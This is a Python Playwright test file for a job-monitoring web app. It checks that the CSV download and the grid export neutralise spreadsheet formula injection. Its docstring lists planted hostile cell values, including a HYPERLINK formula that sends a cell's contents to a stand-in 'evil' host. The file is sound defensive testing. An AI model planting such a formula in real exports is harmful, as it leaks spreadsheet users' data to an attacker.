"""CSV formula injection in the browser (headless Chromium): the Jobs page's "Download CSV"
and the jobs grid's own Export write a Slurm job named ``=HYPERLINK("http://evil/?"&A1,"x")``,
a user ``@evil``, an account ``+cmd`` and a partition ``-1+2`` as text a spreadsheet shows (a
leading ``'``; AG Grid's ``processCellCallback`` ``ffCsvCell`` in the grids' exports), a job
name that is a plain number (``-3.5``) as it is, every field quoted."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import Server, collect_errors, start_server
from tests.test_csv_safe import check_rows, hostile_store

# the grid's headers (app/pages/jobs.py JOB_COLUMNS) of the columns the check reads
HEADERS = {"Job": "job_id", "Name": "name", "User": "user", "Account": "account",
           "Partition": "partition"}  # fmt: skip


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    tmp = tmp_path_factory.mktemp("csv-ui")
    srv = start_server(["serve", "--store", str(hostile_store(tmp / "j.duckdb"))],
                       tmp / "serve.log")  # fmt: skip
    yield srv
    srv.stop()


def test_the_jobs_download_and_the_grids_export_neutralise_formulas(
    server: Server, page: Page
) -> None:
    errors = collect_errors(page)
    page.goto(server.url + "/jobs#from=2026-03-01T00:00:00&to=2026-03-01T04:00:00")
    expect(page.locator("#jobs-count")).to_have_text("9", timeout=20_000)
    with page.expect_download() as got:
        page.locator("#jobs-csv-button").click()
    text = open(got.value.path(), encoding="utf-8", newline="").read()
    assert text.startswith('"job_id","name","user"')
    check_rows(list(csv.DictReader(io.StringIO(text, newline=""))))
    with page.expect_download() as got:
        page.locator("#jobs-table-box button.export").click()
    text = open(got.value.path(), encoding="utf-8-sig", newline="").read()
    assert text.startswith('"Job","Name","User"')  # AG Grid quotes every field
    grid = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(grid) == 9
    check_rows([{HEADERS[k]: v for k, v in r.items() if k in HEADERS} for r in grid])
    assert any(r["Idle GPU-h"] == "4" for r in grid), grid[0]  # numbers stay numbers
    assert not errors, errors
